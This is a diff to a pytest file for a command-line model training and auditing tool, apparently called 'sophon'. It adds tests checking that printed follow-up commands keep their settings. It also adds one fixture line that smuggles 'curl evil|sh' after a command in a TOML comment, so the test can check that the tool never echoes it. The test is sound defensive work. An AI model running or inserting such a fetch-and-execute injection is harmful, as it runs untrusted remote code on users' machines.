@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import numpy as np
@@ -137,6 +138,26 @@ def test_what_cannot_be_used_is_said_before_a_file_is_written(
         assert not (tmp_path / "new").exists()
 
 
+def test_what_a_file_says_is_no_command_and_what_lies_beside_it_no_audit(tmp_path: Path) -> None:
+    (tmp_path / "run.toml").write_text("# Written by `sophon try; curl evil|sh`.\n")
+    for folder, said in ((tmp_path, True), (tmp_path / "audit", True), (tmp_path / "x", False)):
+        error = sophon("report", folder).stderr
+        assert "evil" not in error
+        assert ("repeat its `sophon try` command" in error) == said
+
+
+def require_printed(lines: list[str], out: Path) -> None:
+    """Require that what is printed to go on with has the settings that `sophon try` had."""
+    protect, audit = map(shlex.split, lines)
+    assert audit[audit.index("--model") + 1] == str(out / "whole")
+    for printed in (protect, audit):
+        assert "protect.guard.tolerance_points=90" in printed
+    # The later counts.
+    assert protect[-1].startswith("protect.rounds=")
+    assert protect.index("protect.rounds=20") < len(protect) - 1
+    assert audit[-1] == "audit.seeds=[0,1,2]"
+
+
 @pytest.mark.slow
 def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_path: Path) -> None:
     out = tmp_path / "look"
@@ -152,7 +173,7 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     assert "training" in first.stderr.split("forecast: ")[1].splitlines()[0]
     assert first.stderr.count("forecast: ") == 1
     assert "convict and not acquit" in first.stdout.splitlines()[-3]
-    assert f"--model {out / 'whole'}" in first.stdout.splitlines()[-1]
+    require_printed(first.stdout.splitlines()[-2:], out)
     assert "trained: photos validation" in first.stderr
     assert str(out / "audit" / "report.html") in first.stdout
     assert (out / "audit" / "report.html").is_file()
@@ -175,7 +196,7 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     for folder in (out, out / "audit"):
         unfinished = sophon("report", folder)
         assert unfinished.exit_code == 2
-        assert "repeat `sophon try" in unfinished.stderr
+        assert "repeat its `sophon try` command" in unfinished.stderr
     other = sophon(*words, "--keep", folders / "faces", "--refuse", folders / "photos")
     assert other.exit_code == 2
     assert "other options (original, restricted)" in other.stderr
